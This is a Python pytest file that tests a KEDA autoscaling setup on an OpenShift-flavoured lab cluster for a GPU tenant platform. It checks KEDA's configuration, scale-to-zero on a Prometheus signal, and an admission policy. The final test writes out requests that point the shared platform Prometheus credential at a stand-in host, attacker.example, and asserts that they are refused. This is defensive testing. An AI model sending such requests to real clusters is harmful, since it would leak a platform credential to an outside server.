# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The real KEDA on the OpenShift-flavoured variant lab, installed the OpenShift way (issue 23).

The variant lab's KEDA (lab/components/keda.sh on LAB_FLAVOR=openshift) was installed by the collection's OLM path:
the Subscription of Red Hat's Custom Metrics Autoscaler operator answered by the OLM SIMULATOR, the operand
``KedaController keda`` in openshift-keda written by the keda role, translated into ServiceAccount and Deployment
openshift-keda/keda-operator by the Custom Metrics Autoscaler operator SIMULATOR (as
openshift/custom-metrics-autoscaler-operator does), and run by the real KEDA v2.20.2 as that ServiceAccount. These
tests prove, as the tenant (user alice, group nlp-team):

- the running KEDA takes its settings from the Deployment translated from the collection's operand, and reads the
  platform credential (Secret + ClusterTriggerAuthentication ``gpuaas-prometheus``, the tenants role's) in
  openshift-keda, where the collection puts it on OpenShift;
- a ScaledObject the collection generated from the tenant's inventory scales her Deployment to zero and back on
  the Prometheus signal, the scale written by system:serviceaccount:openshift-keda:keda-operator;
- a ScaledObject of hers that sends the platform credential to another server is refused by the admission policy,
  as is re-pointing the collection's own ScaledObject.
"""

from __future__ import annotations

import json
import subprocess
import uuid
from pathlib import Path

import pytest
from prometheus_client import CollectorRegistry, Gauge, start_http_server
from conftest import LAB_INVENTORY, wait_until

REPO = Path(__file__).resolve().parents[2]
TENANTS_PLAYBOOK = REPO / "playbooks" / "tenants.yml"
ID = uuid.uuid4().hex[:5]
TENANT = "oskd-%s" % ID
NS = "oskd-%s-serve" % ID
FLAVOR = "oskd-%s-h100" % ID
KEDA_NS = "openshift-keda"
KEDA_USER = "system:serviceaccount:openshift-keda:keda-operator"
QUEUE_LABEL = "kueue.x-k8s.io/queue-name"
SIGNAL = "gpuaas_openshift_keda_test_requests"
TOKEN = "lab-platform-token"  # the platform's Prometheus token (the lab's Prometheus ignores it)
POLLING, COOLDOWN = 2, 5


def kubectl(lab, *args: str, stdin: str | None = None, context: str = "lab-admin") -> subprocess.CompletedProcess:
    cmd = [str(lab.dir / "bin" / "kubectl"), "--kubeconfig", lab.kubeconfig, "--context", context]
    return subprocess.run(cmd + list(args), capture_output=True, text=True, check=False, timeout=120, input=stdin)


def get_json(lab, *args: str):
    out = kubectl(lab, "get", *args, "-o", "json")
    return json.loads(out.stdout) if out.returncode == 0 else None


def as_alice(lab, *args: str, body: dict | None = None) -> subprocess.CompletedProcess:
    return kubectl(lab, *args, stdin=json.dumps(body) if body else None, context=lab.tenant_context)


def replicas(lab) -> int | None:
    return ((get_json(lab, "deployment", "-n", NS, "serve") or {}).get("spec") or {}).get("replicas")


def running_pods(lab) -> list:
    items = (get_json(lab, "pods", "-n", NS, "-l", "app=serve") or {}).get("items", [])
    return [p for p in items if not p["metadata"].get("deletionTimestamp") and p["status"].get("phase") == "Running"]


class Signal:
    """A request gauge scraped by the variant lab's Prometheus (a file_sd target of the lab)."""

    def __init__(self, lab):
        self.registry = CollectorRegistry()
        self.gauge = Gauge(SIGNAL, "Requests in flight (test signal)", registry=self.registry)
        self.server, self.thread = start_http_server(0, addr="127.0.0.1", registry=self.registry)
        self.file = lab.dir / "prometheus" / "targets" / ("openshift-keda-test-%s.json" % ID)
        self.file.write_text(json.dumps([{"targets": ["127.0.0.1:%d" % self.server.server_port],
                                          "labels": {"job": "openshift-keda-test-" + ID}}]))
        self.query = 'sum(%s{job="openshift-keda-test-%s"})' % (SIGNAL, ID)

    def close(self) -> None:
        self.file.unlink(missing_ok=True)
        self.server.shutdown()


def tenancy(lab, signal: Signal) -> dict:
    """One tenant of 2 H100 GPUs whose Deployment serve scales 0..1 on the request signal (autoscaling entry)."""
    return {
        "gpuaas_prometheus": {"url": lab.prometheus_url, "token": TOKEN},
        "gpuaas_flavors": [{"name": FLAVOR, "node_labels": {"nvidia.com/gpu.product": "NVIDIA-H100-80GB-HBM3"},
                            "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]}],
        "gpuaas_cohorts": [],
        "gpuaas_priorities": [],
        "gpuaas_tenants": [{
            "name": TENANT, "namespaces": [NS],
            "quotas": [{"flavor": FLAVOR, "resources": {"nvidia.com/gpu": 2, "cpu": 16, "memory": "64Gi"}}],
            "access": {"users": ["nlp-team"]},
            "autoscaling": [{"name": "serve", "target": {"kind": "Deployment", "name": "serve"}, "max_replicas": 1,
                             "polling_interval": POLLING, "cooldown_period": COOLDOWN,
                             "load": {"query": signal.query, "target_per_replica": 1}}],
            "state": "present"}],
    }


def deployment() -> dict:
    """The tenant's model server: one GPU per pod, in her queue."""
    return {"apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": "serve", "namespace": NS, "labels": {QUEUE_LABEL: "default"}},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "serve"}}, "template": {
                "metadata": {"labels": {"app": "serve"}},
                "spec": {"terminationGracePeriodSeconds": 0,
                         "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}],
                         "containers": [{"name": "server", "image": "registry.example/vllm:1",
                                         "resources": {"requests": {"cpu": "1", "memory": "1Gi"},
                                                       "limits": {"nvidia.com/gpu": "1"}}}]}}}}


@pytest.fixture(scope="module")
def tenant(variant_lab, variant_run_playbook):
    if not list((variant_lab.dir / "pids").glob("keda-operator-simulator.pid")):
        pytest.fail("the variant lab runs without KEDA: bring it up with `make lab-variant-up` (LAB_COMPONENTS "
                    "\"kueue keda\")")
    wait_until(lambda: get_json(variant_lab, "namespace", NS) is None, 120, "a previous namespace %s to be gone" % NS)
    signal = Signal(variant_lab)
    signal.gauge.set(0)
    try:
        # The workload exists before its ScaledObject (KEDA backs off on a missing target), and after a first run
        # without autoscaling: that run writes the admission policy for this lab's Kueue integrations (the policy
        # is cluster-wide and left as the last run with tenants wrote it, e.g. by test_openshift_ai's inventory,
        # where Kueue does not manage Deployments).
        without_autoscaling = tenancy(variant_lab, signal)
        without_autoscaling["gpuaas_tenants"][0]["autoscaling"] = []
        run = variant_run_playbook(TENANTS_PLAYBOOK, inventory=LAB_INVENTORY, extra_vars=without_autoscaling,
                                   timeout=400)
        assert run.rc == 0, run.explain()
        created = kubectl(variant_lab, "create", "-f", "-", stdin=json.dumps(deployment()))
        assert created.returncode == 0, created.stderr
        run = variant_run_playbook(TENANTS_PLAYBOOK, inventory=LAB_INVENTORY, extra_vars=tenancy(variant_lab, signal),
                                   timeout=400)
        assert run.rc == 0, run.explain()
        # ScaledObject rights in her namespace, as KEDA's aggregated roles grant them on a real cluster
        kubectl(variant_lab, "create", "role", "keda-edit", "--verb=get,list,create,update,patch,delete",
                "--resource=scaledobjects.keda.sh,triggerauthentications.keda.sh", "-n", NS)
        kubectl(variant_lab, "create", "rolebinding", "alice-keda", "--role=keda-edit", "--user=alice", "-n", NS)
        yield signal
    finally:
        signal.close()
        kubectl(variant_lab, "delete", "namespace", NS, "--wait=false", "--ignore-not-found")
        kubectl(variant_lab, "delete", "clusterqueues.kueue.x-k8s.io", TENANT, "--ignore-not-found", "--wait=false")
        kubectl(variant_lab, "delete", "resourceflavors.kueue.x-k8s.io", FLAVOR, "--ignore-not-found", "--wait=false")
        kubectl(variant_lab, "delete", "clustertriggerauthentication.keda.sh", "gpuaas-prometheus", "--ignore-not-found")
        kubectl(variant_lab, "delete", "secret", "-n", KEDA_NS, "gpuaas-prometheus", "--ignore-not-found")


def test_keda_runs_from_the_deployment_translated_from_the_collections_operand(variant_lab):
    controller = get_json(variant_lab, "kedacontrollers.keda.sh", "-n", KEDA_NS, "keda")
    assert controller, "the lab's bootstrap (the collection's OLM path) left no KedaController openshift-keda/keda"
    assert controller["metadata"]["labels"].get("app.kubernetes.io/managed-by") == "gpuaas.platform"
    assert controller["status"]["phase"] == "Installation Succeeded", controller.get("status")
    deploy = get_json(variant_lab, "deployment", "-n", KEDA_NS, "keda-operator")
    assert deploy["metadata"]["ownerReferences"][0]["uid"] == controller["metadata"]["uid"]
    # the API server stores an empty env value as no value (omitempty)
    env = {e["name"]: e.get("value", "") for e in deploy["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert "WATCH_NAMESPACE" in env and env["WATCH_NAMESPACE"] == controller["spec"].get("watchNamespace", "")
    # what the running KEDA uses: the Deployment's settings, its namespace for ClusterTriggerAuthentication Secrets
    settings = dict(line.split("=", 1) for line in (variant_lab.dir / "keda" / "settings.env").read_text().split())
    assert settings["KEDA_NAMESPACE"].strip("'") == KEDA_NS
    assert settings["WATCH_NAMESPACE"].strip("'") == env["WATCH_NAMESPACE"]


def test_the_collections_scaled_object_scales_the_tenants_deployment_to_zero_and_back(tenant, variant_lab):
    signal = tenant
    so = get_json(variant_lab, "scaledobject.keda.sh", "-n", NS, "serve")
    assert so["metadata"]["labels"]["app.kubernetes.io/managed-by"] == "gpuaas.platform"
    (trigger,) = so["spec"]["triggers"]
    assert trigger["authenticationRef"] == {"name": "gpuaas-prometheus", "kind": "ClusterTriggerAuthentication"}
    # the platform credential lives in openshift-keda on OpenShift (where the operator's KEDA reads it)
    assert get_json(variant_lab, "secret", "-n", KEDA_NS, "gpuaas-prometheus"), "no platform credential in openshift-keda"
    # no requests: the real KEDA (it read the credential, else the ScaledObject would not be Ready) scales to zero
    wait_until(lambda: replicas(variant_lab) == 0, 60, "KEDA to scale the idle Deployment serve to 0")
    so = get_json(variant_lab, "scaledobject.keda.sh", "-n", NS, "serve")
    ready = next(c for c in so["status"]["conditions"] if c["type"] == "Ready")
    assert ready["status"] == "True", ready
    wait_until(lambda: not running_pods(variant_lab), 60, "the pod of serve to be gone")
    # requests arrive: back to one replica, its pod running on the tenant's flavor
    signal.gauge.set(3)
    wait_until(lambda: replicas(variant_lab) == 1, 60, "KEDA to scale serve back to 1")
    pods = wait_until(lambda: running_pods(variant_lab), 60, "the pod of serve to run again")
    assert pods[0]["spec"]["nodeName"].startswith("gpu-h100-")
    # both scales were KEDA's, as the operator's identity: the Deployment's scale subresource written by it
    audit = [json.loads(line) for line in Path(variant_lab.audit_log).read_text().splitlines() if line.strip()]
    scales = [e for e in audit if (e.get("objectRef") or {}).get("resource") == "deployments"
              and e["objectRef"].get("namespace") == NS and e["objectRef"].get("subresource") == "scale"
              and e["verb"] in ("update", "patch") and e.get("stage") == "ResponseComplete"]
    assert {e["user"]["username"] for e in scales} == {KEDA_USER}, [e["user"]["username"] for e in scales]
    assert len(scales) >= 2, scales


def test_tenant_cannot_send_the_platform_credential_to_another_server(tenant, variant_lab):
    def scaled_object(name: str, server: str, platform_credential: bool = True) -> dict:
        trigger = {"type": "prometheus",
                   "metadata": {"serverAddress": server, "query": "sum(up)", "threshold": "1", "authModes": "bearer"}}
        if platform_credential:
            trigger["authenticationRef"] = {"name": "gpuaas-prometheus", "kind": "ClusterTriggerAuthentication"}
        return {"apiVersion": "keda.sh/v1alpha1", "kind": "ScaledObject", "metadata": {"name": name, "namespace": NS},
                "spec": {"scaleTargetRef": {"name": "serve"}, "minReplicaCount": 1, "triggers": [trigger]}}

    # her rights are real: her own ScaledObject without the platform credential is accepted (server-side dry run)
    own = as_alice(variant_lab, "create", "--dry-run=server", "-f", "-",
                   body=scaled_object("own", "http://metrics.example:9090", platform_credential=False))
    assert own.returncode == 0, own.stderr
    stolen = as_alice(variant_lab, "create", "-f", "-", body=scaled_object("steal", "http://attacker.example:9090"))
    assert stolen.returncode != 0, stolen.stdout
    assert "ClusterTriggerAuthentication gpuaas-prometheus is the platform Prometheus credential" in stolen.stderr, \
        stolen.stderr
    assert get_json(variant_lab, "scaledobject.keda.sh", "-n", NS, "steal") is None
    # nor may she re-point the collection's own ScaledObject
    patch = [{"op": "replace", "path": "/spec/triggers/0/metadata/serverAddress", "value": "http://attacker.example"}]
    moved = kubectl(variant_lab, "patch", "scaledobject.keda.sh", "serve", "-n", NS, "--type=json",
                    "-p", json.dumps(patch), context=variant_lab.tenant_context)
    assert moved.returncode != 0 and "platform Prometheus credential" in moved.stderr, moved.stderr
    server = get_json(variant_lab, "scaledobject.keda.sh", "-n", NS, "serve")["spec"]["triggers"][0]["metadata"]
    assert server["serverAddress"] == variant_lab.prometheus_url
